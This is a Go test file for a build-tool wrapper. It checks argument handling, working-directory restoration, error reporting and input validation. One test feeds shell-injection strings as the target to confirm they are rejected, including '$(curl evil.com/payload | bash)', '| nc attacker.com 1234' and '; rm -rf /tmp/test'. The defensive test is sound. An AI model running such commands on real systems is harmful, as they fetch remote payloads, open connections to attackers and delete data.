package builder

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/oshokin/portable-packer/internal/validate"
)

const (
	helperEnv      = "PORTABLE_PACKER_HELPER_PROCESS"
	helperModeEnv  = "PORTABLE_PACKER_HELPER_MODE"
	helperArgsFile = "build-args.txt"
)

// TestHelperProcess is not a real test: it is the fake build tool started by the tests below.
func TestHelperProcess(t *testing.T) {
	if os.Getenv(helperEnv) != "1" {
		return
	}

	args := os.Args
	for i, arg := range args {
		if arg == "--" {
			args = args[i+1:]
			break
		}
	}

	wd, _ := os.Getwd() //nolint:errcheck // Best effort in the helper process.
	_ = os.WriteFile(helperArgsFile, []byte(wd+"\n"+strings.Join(args, "\n")), 0o600)

	if os.Getenv(helperModeEnv) == "fail" {
		fmt.Fprintln(os.Stderr, "error[E0432]: unresolved import")
		os.Exit(3)
	}

	fmt.Fprintln(os.Stdout, "Finished release [optimized] target(s)")
	os.Exit(0)
}

func helperBuilder(t *testing.T, mode string) *Builder {
	t.Helper()

	exe, err := os.Executable()
	require.NoError(t, err)

	return &Builder{
		Command:    []string{exe, "-test.run=^TestHelperProcess$", "--", "build", "--release"},
		TargetFlag: "--target",
		Env:        []string{helperEnv + "=1", helperModeEnv + "=" + mode},
	}
}

func getwd(t *testing.T) string {
	t.Helper()

	wd, err := os.Getwd()
	require.NoError(t, err)

	return wd
}

func readHelperArgs(t *testing.T, dir string) (string, []string) {
	t.Helper()

	contents, err := os.ReadFile(filepath.Join(dir, helperArgsFile))
	require.NoError(t, err)

	lines := strings.Split(string(contents), "\n")

	return lines[0], lines[1:]
}

// TestArgs checks the argument vector with and without a target.
func TestArgs(t *testing.T) {
	t.Parallel()

	b := &Builder{Command: []string{"cargo", "build", "--release"}, TargetFlag: "--target"}

	require.Equal(t, []string{"cargo", "build", "--release"}, b.Args(""))
	require.Equal(t, []string{"cargo", "build", "--release", "--target", "aarch64-apple-darwin"},
		b.Args("aarch64-apple-darwin"))
	require.Len(t, b.Command, 3)
}

// TestBuildRunsInDirWithTarget runs the fake tool and checks its cwd and argv.
func TestBuildRunsInDirWithTarget(t *testing.T) {
	dir := t.TempDir()
	before := getwd(t)

	err := helperBuilder(t, "ok").Build(context.Background(), dir, "x86_64-unknown-linux-gnu")
	require.NoError(t, err)
	require.Equal(t, before, getwd(t))

	wd, args := readHelperArgs(t, dir)

	want, err := validate.Folder(dir)
	require.NoError(t, err)

	got, err := filepath.EvalSymlinks(wd)
	require.NoError(t, err)
	require.Equal(t, want, got)
	require.Equal(t, []string{"build", "--release", "--target", "x86_64-unknown-linux-gnu"}, args)
}

// TestBuildHostDefault omits the target flag.
func TestBuildHostDefault(t *testing.T) {
	dir := t.TempDir()

	require.NoError(t, helperBuilder(t, "ok").Build(context.Background(), dir, ""))

	_, args := readHelperArgs(t, dir)
	require.Equal(t, []string{"build", "--release"}, args)
}

// TestBuildFailureRestoresWorkdir reports the exit code and output and restores the cwd.
func TestBuildFailureRestoresWorkdir(t *testing.T) {
	dir := t.TempDir()
	before := getwd(t)

	err := helperBuilder(t, "fail").Build(context.Background(), dir, "")
	require.Error(t, err)
	require.Equal(t, before, getwd(t))

	var buildErr *BuildError
	require.True(t, errors.As(err, &buildErr))
	require.Equal(t, 3, buildErr.ExitCode)
	require.Contains(t, string(buildErr.Output), "unresolved import")
	require.Contains(t, err.Error(), "exit code 3")
	require.Contains(t, err.Error(), "unresolved import")
}

// TestBuildMissingTool reports a start failure as a BuildError and restores the cwd.
func TestBuildMissingTool(t *testing.T) {
	dir := t.TempDir()
	before := getwd(t)

	b := &Builder{Command: []string{filepath.Join(dir, "no-such-build-tool")}}

	err := b.Build(context.Background(), dir, "")

	var buildErr *BuildError
	require.True(t, errors.As(err, &buildErr))
	require.Equal(t, -1, buildErr.ExitCode)
	require.Equal(t, before, getwd(t))
}

// TestBuildRejectsBadInput never starts the tool for an invalid target or folder.
func TestBuildRejectsBadInput(t *testing.T) {
	dir := t.TempDir()
	b := helperBuilder(t, "ok")

	for _, target := range []string{
		"; rm -rf /tmp/test",
		"| nc attacker.com 1234",
		"$(curl evil.com/payload | bash)",
		"`id`",
		"&& echo pwned",
	} {
		err := b.Build(context.Background(), dir, target)
		require.ErrorIs(t, err, validate.ErrInvalidTarget, target)
	}

	require.NoFileExists(t, filepath.Join(dir, helperArgsFile))

	err := b.Build(context.Background(), filepath.Join(dir, "nonexistent"), "")
	require.ErrorIs(t, err, validate.ErrFolderNotFound)

	require.ErrorIs(t, (&Builder{}).Build(context.Background(), dir, ""), errNoCommand)
}
